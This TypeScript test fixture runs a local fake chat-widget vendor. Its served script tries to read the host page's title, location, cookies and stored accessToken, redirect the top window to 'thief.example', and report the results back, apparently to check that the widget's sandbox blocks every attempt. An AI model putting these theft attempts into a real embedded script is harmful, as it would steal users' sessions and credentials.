import { createServer } from 'node:http'

/** What the stand-in for a chat provider found out about the page it was put into. */
export interface VendorFindings {
  /** What it could read of the page around it and of what the site keeps; must all be failures. */
  readonly thefts: Readonly<Record<string, string>>
  /** What its own storage gave back. */
  readonly stored: string
  /** What it was called with. */
  readonly calls: readonly string[]
}

/** Stands for a chat provider: a server on this machine whose script paints a widget and tries to read what it must not. */
export interface ChatVendor {
  readonly script: string
  readonly origin: string
  /** Requests so far, as method and address. */
  readonly requests: readonly string[]
  readonly findings: readonly VendorFindings[]
  /** Forgets every request and finding. */
  readonly clear: () => void
  readonly stop: () => Promise<void>
}

/** Runs in the browser, as both providers at once. Every theft is tried; what it throws is noted. */
const vendorScript = `(function(){
var calls=[],thefts={}
function tryTo(name,steal){try{thefts[name]="got "+steal()}catch(error){thefts[name]=error.name}}
tryTo("page",function(){return parent.document.title})
tryTo("tokens",function(){return parent.localStorage.getItem("accessToken")})
tryTo("cookies",function(){return parent.document.cookie})
tryTo("address",function(){return parent.location.href})
tryTo("top",function(){top.location.href="https://thief.example/";return "away"})
localStorage.setItem("chat","kept");document.cookie="chat=kept; path=/"
var stored=[localStorage.getItem("chat"),localStorage.getItem("accessToken"),sessionStorage.getItem("chat"),document.cookie].join("|")
var server=new URL(document.currentScript.src).origin
function paint(){var box=document.createElement("main");box.style.cssText="padding:16px;font:16px sans-serif"
var ask=document.createElement("p");ask.textContent="How can we help?"
var field=document.createElement("input");field.setAttribute("aria-label","Your message")
box.append(ask,field);document.body.append(box)}
function report(){fetch(location.origin+"/api/common-component/v1/public/device-id").then(function(){thefts.calls="got an answer"},function(error){thefts.calls=error.name})
.then(function(){return fetch(server+"/found",{method:"POST",body:JSON.stringify({calls:calls,thefts:thefts,stored:stored})})})}
window.zE=function(){calls.push(Array.from(arguments).filter(function(one){return typeof one==="string"}).join(" "));if(arguments[1]==="open"){paint();report()}}
window.liveChat=function(command,key,done){calls.push([command,key].join(" ").trim());if(command==="init")done();else{paint();report()}}
})()`

/** Starts a provider on a free port of this machine. */
export async function startChatVendor(): Promise<ChatVendor> {
  const requests: string[] = []
  const findings: VendorFindings[] = []
  const server = createServer(async (request, response) => {
    requests.push(`${request.method} ${request.url}`)
    const parts: Buffer[] = []
    for await (const part of request) parts.push(part)
    if (request.method === 'POST') findings.push(JSON.parse(Buffer.concat(parts).toString('utf8')))
    response.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' })
    response.end(request.method === 'GET' ? vendorScript : '')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const address = server.address()
  if (address === null || typeof address === 'string') throw new Error('The provider has no port')
  const origin = `http://127.0.0.1:${address.port}`
  return {
    origin,
    script: `${origin}/widget.js`,
    requests,
    findings,
    clear: () => {
      requests.length = 0
      findings.length = 0
    },
    stop: () =>
      new Promise((resolve) => {
        server.close(() => resolve())
        server.closeAllConnections()
      }),
  }
}
